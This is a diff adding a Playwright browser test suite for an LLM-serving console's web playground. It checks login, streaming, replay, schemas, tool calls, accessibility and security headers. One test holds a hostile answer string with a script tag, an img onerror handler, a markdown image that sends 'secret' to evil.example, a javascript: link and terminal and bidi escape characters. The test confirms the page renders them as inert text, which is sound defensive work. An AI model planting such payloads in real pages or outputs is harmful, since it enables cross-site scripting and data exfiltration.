@@ -1,0 +1,477 @@
+"""The console in a browser: Debian's Chromium, driven by Playwright, at a real edge.
+
+Each test compares what the page shows with what the API says, or with what the region was scripted
+to do. With `SKERRY_SHOTS=FOLDER` pictures of pages are kept there.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+import sys
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from tests.edge.support import (
+    ACCOUNT,
+    CHAT,
+    EDGE,
+    MODEL,
+    PATIENCE,
+    Deployment,
+    Hold,
+    Moved,
+    answer,
+    deployed,
+)
+from tests.tools import program
+
+from skerry_edge.console.codes import new_code
+from skerry_edge.limits import Limits
+from skerry_regions.wire.protocol import Submit
+
+library: Any = pytest.importorskip("playwright.sync_api")
+
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.filterwarnings("ignore::ResourceWarning"),  # of the driver's pipes
+]
+
+WIDE, NARROW, HUGE = (1440, 900), (360, 740), (3840, 2160)
+SHOTS = os.environ.get("SKERRY_SHOTS", "")
+
+
+@pytest.fixture(autouse=True)
+def _no_request_holds_the_loop() -> None:
+    """Nothing is measured here: a browser shares the cores."""
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Any]:
+    path = program("chromium", "chromium")
+    with library.sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
+        yield browser
+        browser.close()
+
+
+@pytest.fixture(scope="module")
+def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]:
+    with deployed(
+        tmp_path_factory.mktemp("browser"), Limits(max_requests=64), console="loopback"
+    ) as edge:
+        yield edge
+
+
+@pytest.fixture
+def at(shared: Deployment) -> Deployment:
+    shared.region.script = lambda submit: answer("Hello")
+    shared.region.explanation = ""
+    shared.region.streams.clear()
+    return shared
+
+
+class Pages:
+    """Opens pages, each in a browser context of its own, and collects what goes wrong in them."""
+
+    def __init__(self, chromium: Any, edge: Deployment) -> None:
+        self._chromium = chromium
+        self._edge = edge
+        self._contexts: list[Any] = []
+        self.faults: list[str] = []
+
+    def link(self, token_id: str | None = None, path: str = "/console/") -> str:
+        token_id = token_id or self._edge.token.split("_")[1]
+        code = new_code(self._edge.edge.secret, EDGE, token_id, time.time())
+        return f"{self.base}{path}#login={code}"
+
+    @property
+    def base(self) -> str:
+        return f"http://127.0.0.1:{self._edge.port}"
+
+    def open(
+        self,
+        url: str | None = None,
+        *,
+        size: tuple[int, int] = WIDE,
+        theme: str = "dark",
+        **more: Any,
+    ) -> Any:
+        width, height = size
+        context = self._chromium.new_context(
+            viewport={"width": width, "height": height}, color_scheme=theme, **more
+        )
+        self._contexts.append(context)
+        page = context.new_page()
+        page.set_default_timeout(PATIENCE * 1000)
+        page.on("pageerror", lambda error: self.faults.append(f"error: {error}"))
+        page.on("console", self._said)
+        page.on("request", self._requested)
+        page.goto(url or self.link())
+        return page
+
+    def _said(self, message: Any) -> None:
+        if message.type in ("error", "warning") and "Failed to load resource" not in message.text:
+            self.faults.append(message.text)
+
+    def _requested(self, request: Any) -> None:
+        if not request.url.startswith((self.base, "data:")):
+            self.faults.append(f"outside: {request.url}")
+
+    def close(self) -> None:
+        for context in self._contexts:
+            context.close()
+
+
+@pytest.fixture
+def pages(chromium: Any, at: Deployment) -> Iterator[Pages]:
+    """Afterwards: no error in a console, nothing refused by the policy, no request outside."""
+    made = Pages(chromium, at)
+    yield made
+    made.close()
+    assert made.faults == []
+
+
+def ask(page: Any, prompt: str = "Hi") -> None:
+    page.wait_for_selector("#run")
+    page.fill("#ask", prompt)
+    page.click("#run")
+
+
+def shot(page: Any, name: str) -> None:
+    if SHOTS:
+        Path(SHOTS).mkdir(parents=True, exist_ok=True)
+        page.screenshot(path=Path(SHOTS) / f"{name}.png")
+
+
+def said(text: str) -> Callable[[Submit], Any]:
+    return lambda submit: answer(text)
+
+
+# --- the first minute ----------------------------------------------------------------------------
+
+
+def test_the_first_answer_is_two_clicks_away(at: Deployment, pages: Pages) -> None:
+    page = pages.open()  # the link that `skerry up` prints
+    assert "login" not in page.evaluate("location.href")
+    page.click("#run")
+    page.wait_for_selector("text=Done:")
+    assert page.inner_text(".answer p:last-of-type") == "Hello"
+    assert at.region.submits[-1].sampling.temperature == 1.0
+    assert page.inner_text(".asked") == "Why is the sky blue?"
+    shot(page, "playground-dark")
+
+
+def test_a_code_that_is_void_leads_to_the_form(at: Deployment, pages: Pages) -> None:
+    page = pages.open(f"{pages.base}/console/#login=0.0.0.0")
+    page.wait_for_selector("text=This code is void")
+    assert page.evaluate("location.hash") == ""
+    page.fill("#token", "skerry_no_token")
+    page.click(".login .primary")
+    page.wait_for_selector("text=This token is wrong")
+    shot(page, "login-dark")
+    page.fill("#token", at.token)
+    page.keyboard.press("Enter")
+    page.wait_for_selector("#run")
+    kept = page.evaluate("JSON.stringify([localStorage, sessionStorage, document.cookie])")
+    assert at.token.split("_")[2] not in kept + page.content()
+
+
+def test_a_session_that_was_revoked_leads_to_the_form(at: Deployment, pages: Pages) -> None:
+    _, record = at.edge.tokens.create(account_id=ACCOUNT, now=0)
+    page = pages.open(pages.link(record.id))
+    page.wait_for_selector("#run")
+    at.edge.tokens.revoke(record.id)
+    page.click("#run")
+    page.wait_for_selector("#token")
+
+
+# --- the playground ------------------------------------------------------------------------------
+
+
+def test_the_text_streams_as_it_comes(at: Deployment, pages: Pages) -> None:
+    at.region.script = lambda submit: [list(b"One"), Hold()]
+    page = pages.open()
+    ask(page)
+    page.wait_for_function("document.querySelector('.answer').innerText.includes('One')")
+    assert page.inner_text("#run") == "Stop"
+    page.click("#run")
+    page.wait_for_selector("text=Stopped after")
+    assert at.region.streams[-1].aborted.wait(PATIENCE)  # the node stops computing
+
+
+def test_figures_are_those_of_the_usage(at: Deployment, pages: Pages) -> None:
+    at.region.script = said("Hello, whole world")
+    page = pages.open()
+    ask(page)
+    page.wait_for_selector("text=Done:")
+    usage = at.chat().json()["usage"]
+    names, values = (page.locator(f".meters {each}").all_inner_texts() for each in ("dt", "dd"))
+    figures = dict(zip(names, values, strict=True))
+    assert figures["Tokens"] == str(usage["completion_tokens"])
+    assert re.fullmatch(r"[\d.]+ ?m?s", figures["First token"])
+    assert float(figures["Tokens/s"]) > 0
+
+
+def test_a_replay_is_compared_and_says_so(at: Deployment, pages: Pages) -> None:
+    page = pages.open()
+    ask(page)
+    page.wait_for_selector("text=Done:")
+    page.click("#replay")
+    page.wait_for_selector("text=Identical, character by character.")
+    first, second = at.region.submits[-2:]
+    assert first.sampling.seed == second.sampling.seed
+    assert first.prompt_ids == second.prompt_ids
+    at.region.script = said("Hello?")
+    page.click("#replay")
+    page.wait_for_selector("text=Not the same:")
+
+
+def test_a_conversation_goes_on(at: Deployment, pages: Pages) -> None:
+    page = pages.open()
+    ask(page, "One?")
+    page.wait_for_selector("text=Done:")
+    ask(page, "Two?")
+    page.wait_for_function("document.querySelectorAll('.asked').length === 2")
+    page.wait_for_selector("text=Done:")
+    prompt = bytes(each for each in at.region.submits[-1].prompt_ids if each < 256).decode()
+    assert prompt == "<user>One?\n<assistant>Hello\n<user>Two?\n<assistant>"
+
+
+def test_two_models_answer_side_by_side(at: Deployment, pages: Pages) -> None:
+    page = pages.open()
+    page.wait_for_selector("#run")
+    page.check("#side")
+    ask(page)
+    page.wait_for_function("document.querySelectorAll('.lane .state').length === 2")
+    assert {each.model for each in at.region.submits} == {MODEL, CHAT}
+    assert len({each.sampling.seed for each in at.region.submits}) == 1
+    shot(page, "side-by-side-dark")
+
+
+def test_a_schema_is_refused_with_its_path(at: Deployment, pages: Pages) -> None:
+    page = pages.open()
+    page.wait_for_selector("#run")
+    page.check("#schema")
+    bad = '{"type": "object", "properties": {"a": {"type": "year"}}}'
+    page.fill("#schema-text", bad)
+    page.click("#run")
+    page.wait_for_function("document.querySelector('#schema-fault').textContent !== ''")
+    refused = at.chat(
+        response_format={
+            "type": "json_schema",
+            "json_schema": {
+                "name": "answer",
+                "schema": {"type": "object", "properties": {"a": {"type": "year"}}},
+            },
+        }
+    )
+    assert page.inner_text("#schema-fault") == refused.json()["error"]["message"]
+    assert "properties.a" in refused.json()["error"]["message"]
+    page.fill("#schema-text", "{")
+    page.wait_for_selector("text=This is no JSON")
+    assert page.is_disabled("#run")
+
+
+def test_calls_of_tools_are_shown(at: Deployment, pages: Pages) -> None:
+    call = '<tool_call>\n{"name": "tide", "arguments": {"place": "Skye"}}\n</tool_call>'
+    at.region.script = said(call)
+    page = pages.open()
+    page.wait_for_selector("#run")
+    page.check("#tools")
+    ask(page)
+    page.wait_for_selector(".call")
+    assert page.inner_text(".call b") == "tide"
+    assert page.inner_text(".call code").replace(" ", "") == '{"place":"Skye"}'
+
+
+def test_a_node_that_is_lost_is_marked_and_the_text_goes_on(at: Deployment, pages: Pages) -> None:
+    at.region.explanation = '"d1";total=1.0'
+    at.region.script = lambda submit: [
+        list(b"Hel"), Moved('"d2";total=2.0'), *answer("lo"),
+    ]  # fmt: skip
+    page = pages.open()
+    ask(page)
+    page.wait_for_selector("text=It moved once")
+    assert page.inner_text(".answer p:last-of-type") == "Hello"
+    assert page.get_attribute(".echo .mark", "d").count("M") == 1
+
+
+HOSTILE = (
+    "<script>window.pwned = 1</script><img src=x onerror=\"window.pwned=1\">\n\n"
+    "![steal](https://evil.example/?q=secret) [click](javascript:alert(1)) \x1b[2J "
+    "\u202eevil\u202c **bold** `code`"
+)  # fmt: skip
+
+
+def test_a_hostile_answer_stays_text(at: Deployment, pages: Pages) -> None:
+    at.region.script = said(HOSTILE)
+    page = pages.open()
+    ask(page, HOSTILE)
+    page.wait_for_selector("text=Done:")
+    assert page.locator(":is(.answer, .asked) :is(script, img, a, iframe, svg, style)").count() == 0
+    shown = page.inner_text(".answer")
+    assert "<script>window.pwned = 1</script>" in shown
+    assert "![steal](https://evil.example/?q=secret)" in shown
+    assert "⟨U+001B⟩[2J ⟨U+202E⟩evil⟨U+202C⟩" in shown
+    assert page.locator(".answer strong").inner_text() == "bold"
+    assert page.evaluate("window.pwned") is None
+    shot(page, "hostile-dark")
+
+
+def test_the_edges_own_words_are_shown_when_it_refuses(at: Deployment, pages: Pages) -> None:
+    page = pages.open()
+    ask(page, "x" * 600)
+    page.wait_for_selector(".lane-note [data-state=down]")
+    refused = at.client.post(
+        at.chat_path, json={"model": MODEL, "messages": [{"role": "user", "content": "x" * 600}]}
+    )
+    assert page.inner_text(".lane-note").endswith(refused.json()["error"]["message"])
+
+
+def test_who_may_not_run_sees_it(at: Deployment, pages: Pages) -> None:
+    _, viewer = at.edge.tokens.create(account_id=ACCOUNT, role="viewer", now=0)
+    page = pages.open(pages.link(viewer.id))
+    page.wait_for_selector("text=This login may not run models")
+    assert page.is_disabled("#run")
+
+
+# --- code ----------------------------------------------------------------------------------------
+
+PROMPT = 'It\'s "quoted": `$HOME` ${x} \\ \n\n\nend — ¿é?'
+
+
+@pytest.mark.parametrize("language", ["curl", "skerry", "openai", "JavaScript"])
+def test_the_code_runs_and_asks_the_same(
+    at: Deployment, pages: Pages, tmp_path: Path, language: str
+) -> None:
+    commands = {
+        "curl": [program("bash", "bash"), "code"], "skerry": [sys.executable, "code"],
+        "openai": [sys.executable, "code"],
+        "JavaScript": ["node", "--input-type=module", "-e", "CODE"],
+    }  # fmt: skip
+    program({"curl": "curl", "JavaScript": "node"}.get(language, "bash"), "bash")
+    page = pages.open()
+    page.wait_for_selector("#run")
+    page.fill("#ask", PROMPT)
+    page.click(f"#tab-{language}")
+    code = page.inner_text("#code pre")
+    assert at.token not in code
+    (tmp_path / "code").write_text(code)
+    roots = [str(Path(__file__).parents[3] / each) for each in ("sdk", "core", "regions", "edge")]
+    done = subprocess.run(
+        [code if each == "CODE" else each for each in commands[language]],
+        cwd=tmp_path,
+        env=os.environ
+        | {
+            "SKERRY_BASE_URL": pages.base,
+            "SKERRY_ACCOUNT_ID": ACCOUNT,
+            "SKERRY_API_TOKEN": at.token,
+            "PYTHONPATH": os.pathsep.join(roots),
+            "no_proxy": "127.0.0.1",
+        },
+        capture_output=True,
+        text=True,
+        timeout=PATIENCE,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    lines = [line for line in done.stdout.splitlines() if line.startswith("data: {")]
+    events = "".join(json.loads(line[6:]).get("response", "") for line in lines)
+    assert (events or done.stdout.strip()) == "Hello"
+    prompt = bytes(each for each in at.region.submits[-1].prompt_ids if each < 256).decode()
+    assert prompt == f"<user>{PROMPT}\n<assistant>"
+    assert at.region.submits[-1].sampling.seed == 4711
+    assert at.region.submits[-1].sampling.temperature == 1.0
+
+
+# --- for everybody -------------------------------------------------------------------------------
+
+
+def test_the_keyboard_is_enough(at: Deployment, pages: Pages) -> None:
+    page = pages.open()
+    page.wait_for_selector("#run:focus")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("text=Done:")
+    page.focus("#ask")
+    page.keyboard.type("Again")
+    page.keyboard.press("Control+Enter")
+    page.wait_for_function("document.querySelectorAll('.asked').length === 2")
+    page.wait_for_selector("text=Done:")
+    page.keyboard.press("Control+Shift+Enter")
+    page.wait_for_selector("text=Identical")
+    page.keyboard.press("Escape")
+    page.keyboard.press("?")
+    page.wait_for_selector("dialog[open]")
+    page.keyboard.press("Escape")
+    page.wait_for_selector("dialog", state="detached")
+    theme = page.evaluate("document.documentElement.dataset.theme")
+    page.keyboard.press("n")
+    assert page.evaluate("document.documentElement.dataset.theme") != theme
+
+
+@pytest.mark.parametrize("theme", ["dark", "light"])
+@pytest.mark.parametrize("size", [WIDE, (820, 1180), NARROW, HUGE])
+def test_nothing_is_wider_than_the_window(
+    at: Deployment, pages: Pages, size: tuple[int, int], theme: str
+) -> None:
+    at.region.script = said("Hello " * 60)
+    page = pages.open(size=size, theme=theme)
+    ask(page)
+    page.wait_for_selector("text=Done:")
+    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
+    assert page.evaluate("document.documentElement.dataset.theme") == theme
+    shot(page, f"playground-{size[0]}-{theme}")
+
+
+def test_every_control_has_a_name(at: Deployment, pages: Pages) -> None:
+    page = pages.open()
+    page.wait_for_selector("#run")
+    page.check("#schema")
+    page.check("#tools")
+    page.check("#side")
+    unnamed = page.evaluate(
+        """() => [...document.querySelectorAll('button, input, select, textarea, a')]
+            .filter(e => e.offsetParent !== null)
+            .filter(e => !(e.innerText?.trim() || e.labels?.length || e.getAttribute('aria-label')))
+            .map(e => e.outerHTML)"""
+    )
+    assert unnamed == []
+
+
+def test_the_layout_stays_while_it_streams(at: Deployment, pages: Pages) -> None:
+    at.region.script = said("Hello\n\nworld " * 20)
+    page = pages.open()
+    page.wait_for_selector("#run")
+    page.evaluate(
+        """() => { window.shift = 0; new PerformanceObserver(list => {
+            const own = list.getEntries().filter(each => !each.hadRecentInput);
+            window.shift += own.reduce((sum, each) => sum + each.value, 0);
+        }).observe({type: 'layout-shift', buffered: false}); }"""
+    )
+    ask(page)
+    page.wait_for_selector("text=Done:")
+    assert page.evaluate("window.shift") < 0.01
+
+
+def test_an_edge_that_is_gone_is_named(at: Deployment, pages: Pages) -> None:
+    page = pages.open()
+    page.wait_for_selector("#run")
+    page.context.set_offline(True)
+    ask(page)
+    page.wait_for_selector("text=This edge does not answer.")
+    page.context.set_offline(False)
+    ask(page)
+    page.wait_for_selector("text=Done:")
+
+
+def test_no_page_of_others_can_frame_it(at: Deployment, pages: Pages) -> None:
+    headers = httpx.get(f"{pages.base}/console/").headers
+    assert "frame-ancestors 'none'" in headers["content-security-policy"]
+    assert headers["x-frame-options"] == "DENY"
